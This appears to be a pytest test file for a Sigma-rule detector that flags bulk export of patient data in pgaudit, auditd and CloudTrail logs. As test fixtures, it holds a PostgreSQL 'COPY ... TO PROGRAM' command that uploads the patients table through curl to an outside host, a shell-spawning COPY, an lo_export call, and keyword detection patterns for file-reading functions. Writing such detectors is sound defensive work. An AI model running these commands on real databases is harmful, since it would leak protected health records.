"""Sigma rules through pySigma (the optional extra): the shipped rules on real-format samples,
modifiers and conditions, correlations, rules that do not fit, and the core without pySigma."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from phiscope.errors import ConfigError
from phiscope.watch.config import load_config
from phiscope.watch.detectors.base import Mode
from phiscope.watch.detectors.sigma import SigmaDetector
from phiscope.watch.engine import WatchEngine
from phiscope.watch.events import EXEC, READ, AccessEvent
from tests.watch.conftest import parse_sample

T0 = 1_709_510_400.0
DAY = 86400.0


def _sigma(**settings: Any) -> SigmaDetector:
    return SigmaDetector(load_config(overrides={"detectors": {"sigma": settings}}))


def _ev(source: str, **kw: Any) -> AccessEvent:
    return AccessEvent(ts=kw.pop("ts", T0 + 10 * DAY), actor=kw.pop("actor", "mallory"), source=source, **kw)


def test_shipped_rules_load_and_fit() -> None:
    pytest.importorskip("sigma")
    det = _sigma()
    assert det.notes() == [] and det.rules is not None and det.rules.loaded == 5
    assert set(det.rules.by_source) == {"auditd", "pgaudit", "cloudtrail"}


def test_dump_and_rclone_on_the_auditd_sample() -> None:
    pytest.importorskip("sigma")
    events, _ = parse_sample("auditd.log")
    eng = WatchEngine(load_config())
    alerts = [a for ev in events for a in eng.observe(ev) if a.detector.startswith("sigma:")]
    assert [(a.actor, a.evidence["title"]) for a in alerts] == [
        ("1000", "Database dump tool run on a Linux host"),
        ("mallory", "Rclone copies files to a cloud remote")]
    first = alerts[0]
    assert first.detector == "sigma:838b5a7f-925d-42f9-826d-7bbbe6b3eb02" and first.severity == "high"
    assert 'Sigma rule "Database dump tool run on a Linux host" (level high, id 838b5a7f' in first.explanation
    assert "Dumps copy whole databases" in first.explanation  # the rule's description
    assert first.evidence["tags"] == ["attack.collection", "attack.t1005"]


def test_an_account_that_ran_it_while_learning_is_not_alerted() -> None:
    pytest.importorskip("sigma")
    det = _sigma()
    dump = {"action": EXEC, "tool": "pg_dump", "command": "pg_dump -Fc ehr", "actor": "svc_backup"}
    assert det.observe(_ev("auditd", ts=T0, **dump), Mode.LEARN) == []
    assert det.observe(_ev("auditd", **dump), Mode.DETECT) == []
    assert len(det.observe(_ev("auditd", **{**dump, "actor": "dba7"}), Mode.DETECT)) == 1
    assert det.observe(_ev("auditd", **{**dump, "actor": "dba7"}, ts=T0 + 10 * DAY + 60), Mode.DETECT) == []


def test_copy_to_program_in_pgaudit() -> None:
    pytest.importorskip("sigma")
    det = _sigma()
    bad = _ev("pgaudit", action=READ, command="copy (select * from patients) to program 'curl -T - x.io'")
    assert [a.evidence["title"] for a in det.observe(bad, Mode.DETECT)] == ["PostgreSQL COPY ... TO PROGRAM"]
    backup = _ev("pgaudit", action=READ, command="COPY public.patients TO stdout;")
    assert det.observe(backup, Mode.DETECT) == []
    assert det.observe(_ev("csv-access", action=READ, command="copy x to program 'sh'"), Mode.DETECT) == []


def test_s3_bulk_download_correlation_by_a_new_principal() -> None:
    pytest.importorskip("sigma")
    det = _sigma()

    def burst(actor: str, start: float, n: int, mode: Mode) -> list[Any]:
        return [a for i in range(n) for a in det.observe(
            _ev("cloudtrail", actor=actor, ts=start + i * 5, action=READ, command="GetObject",
                dest="s3.amazonaws.com"), mode)]

    assert burst("etl-role", T0, 600, Mode.LEARN) == []
    assert burst("etl-role", T0 + 10 * DAY, 600, Mode.DETECT) == []  # did it while learning
    got = burst("analyst-jane", T0 + 10 * DAY, 600, Mode.DETECT)
    assert len(got) == 1 and got[0].evidence["count"] == 500
    assert got[0].evidence["title"].startswith("Bulk S3")
    assert burst("slow-sam", T0 + 10 * DAY, 400, Mode.DETECT) == []  # under the count
    assert det.observe(_ev("cloudtrail", command="PutObject", dest="s3.amazonaws.com"), Mode.DETECT) == []


RULES = """
title: Modifiers
id: 4a039940-cfb5-4980-90c0-0416cec0ac4b
level: medium
description: modifiers test
logsource: {product: postgresql, service: pgaudit}
detection:
  sel_cmd:
    statement|contains|all: [' from ', 'patients']
    statement|startswith: 'select'
  sel_re:
    statement|re: 'ssn|dob'
  big:
    rows|gte: 1000
  net:
    client|cidr: 10.66.0.0/16
  noapp:
    application_name|exists: false
  filter:
    user|endswith: ['_etl', '_backup']
  condition: (1 of sel_* and big and (net or noapp)) and not filter
---
title: Keywords
id: 4a039940-cfb5-4980-90c0-0416cec0ac4c
level: low
logsource: {product: postgresql, service: pgaudit}
detection:
  keywords:
    - 'pg_read_file'
    - 'lo_export*'
  condition: keywords
---
title: Distinct tables
id: 4a039940-cfb5-4980-90c0-0416cec0ac4d
name: any_read
level: informational
logsource: {product: postgresql, service: pgaudit}
detection:
  sel:
    statement|startswith: select
  condition: sel
---
title: Many tables read
id: 4a039940-cfb5-4980-90c0-0416cec0ac4e
level: high
correlation:
  type: value_count
  rules: [any_read]
  group-by: [user]
  timespan: 10m
  condition: {gte: 3, field: object_name}
---
title: Windows only
id: 4a039940-cfb5-4980-90c0-0416cec0ac4f
logsource: {product: windows, category: process_creation}
detection:
  sel: {Image|endswith: '\\\\cmd.exe'}
  condition: sel
---
title: Unknown field
id: 4a039940-cfb5-4980-90c0-0416cec0ac50
logsource: {product: postgresql, service: pgaudit}
detection:
  sel: {shoe_size: 44}
  condition: sel
"""


@pytest.fixture
def user_rules(tmp_path: Path) -> SigmaDetector:
    pytest.importorskip("sigma")
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "mine.yml").write_text(RULES)
    cfg = tmp_path / "watch.toml"
    cfg.write_text('[detectors.sigma]\nbuiltin_rules = false\nrule_dirs = ["rules"]\n')
    return SigmaDetector(load_config(cfg))


def _titles(det: SigmaDetector, **kw: Any) -> list[str]:
    return [a.evidence["title"] for a in det.observe(_ev("pgaudit", action=READ, **kw), Mode.DETECT)]


def test_modifiers_and_condition_of_a_user_rule(user_rules: SigmaDetector) -> None:
    base = {"command": "SELECT * FROM Patients", "rows": 5000, "host": "10.66.3.4", "tool": "psql",
            "actor": "u1"}
    assert "Modifiers" in _titles(user_rules, **base)
    assert "Modifiers" in _titles(user_rules, **{**base, "actor": "u2", "host": "10.1.1.1", "tool": ""})
    assert "Modifiers" not in _titles(user_rules, **{**base, "actor": "u3", "host": "10.1.1.1"})  # net/noapp
    assert "Modifiers" not in _titles(user_rules, **{**base, "actor": "u4", "rows": 999})  # |gte
    assert "Modifiers" not in _titles(user_rules, **{**base, "actor": "svc_etl"})  # not filter
    assert "Modifiers" not in _titles(user_rules, **{**base, "actor": "u5", "command": "SELECT 1 FROM x"})
    assert "Modifiers" in _titles(user_rules, **{**base, "actor": "u6", "command": "update x set dob=1"})
    assert _titles(user_rules, actor="k1", command="select lo_export(123, '/tmp/x')") == ["Keywords"]


def test_value_count_correlation(user_rules: SigmaDetector) -> None:
    got: list[str] = []
    for i, table in enumerate(["public.a", "public.a", "public.b", "public.c"]):
        got += _titles(user_rules, actor="v1", command="select 1", object=table, ts=T0 + 10 * DAY + i)
    assert got == ["Many tables read"]


def test_rules_that_do_not_fit_are_noted(user_rules: SigmaDetector) -> None:
    notes = "\n".join(user_rules.notes())
    assert "'Windows only' skipped: no log format fits logsource windows/process_creation/-" in notes
    assert "'Unknown field' skipped: field 'shoe_size' has no mapping" in notes


def test_unreadable_rules_are_reported_together(tmp_path: Path) -> None:
    pytest.importorskip("sigma")
    (tmp_path / "a.yml").write_text("title: [unclosed\n")
    (tmp_path / "b.yml").write_text("title: no detection\nlogsource: {product: linux}\n")
    with pytest.raises(ConfigError) as e:
        _sigma(rule_dirs=[str(tmp_path)])
    assert "a.yml" in str(e.value) and "b.yml" in str(e.value)
    with pytest.raises(ConfigError, match="does not exist"):
        _sigma(rule_dirs=[str(tmp_path / "nope")])


def test_core_runs_without_pysigma(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in [m for m in sys.modules if m == "sigma" or m.startswith("sigma.")] or ["sigma"]:
        monkeypatch.setitem(sys.modules, name, None)
    for name in ("phiscope.watch.sigma_rules", "phiscope.watch.sigma_match"):
        if name in sys.modules:
            monkeypatch.delitem(sys.modules, name)
    eng = WatchEngine(load_config())
    events, _ = parse_sample("auditd.log")
    alerts = [a for ev in events for a in eng.observe(ev)]
    assert {a.detector for a in alerts} == {"bulk-export:dump-tool", "bulk-export:uploader"}
    notes = [n for d in eng.detectors for n in d.notes()]
    assert any("pip install 'phiscope[sigma]'" in n for n in notes)
    with pytest.raises(ConfigError, match=r"pip install 'phiscope\[sigma\]'"):
        _sigma(rule_dirs=[str(tmp_path)])


_KEYS = ["title", "id", "logsource", "detection", "condition", "product", "service", "sel", "correlation",
         "type", "rules", "timespan", "group-by", "level", "statement|contains", "a0|re", "rows|gt", "name"]
_YAML_VALUE = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=12)
    | st.sampled_from(["linux", "auditd", "pgaudit", "postgresql", "sel", "1 of sel*", "not sel",
                       "event_count", "1h", "high", "(", "sel and"]),
    lambda kids: st.lists(kids, max_size=3) | st.dictionaries(st.sampled_from(_KEYS), kids, max_size=5),
    max_leaves=20)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(docs=st.lists(st.dictionaries(st.sampled_from(_KEYS), _YAML_VALUE, max_size=6), min_size=1,
                     max_size=3), junk=st.text(max_size=40))
def test_any_rule_file_loads_or_is_a_config_error(tmp_path: Path, docs: list[dict[str, Any]],
                                                   junk: str) -> None:
    pytest.importorskip("sigma")
    import yaml

    (tmp_path / "r.yml").write_text(yaml.safe_dump_all(docs) + ("\n" + junk if junk.strip() else ""))
    try:
        det = _sigma(rule_dirs=[str(tmp_path)], builtin_rules=False)
    except ConfigError:
        return
    det.observe(_ev("pgaudit", action=READ, command="select 1", rows=3), Mode.DETECT)
    det.observe(_ev("auditd", action=EXEC, command="pg_dump x", tool="pg_dump"), Mode.DETECT)
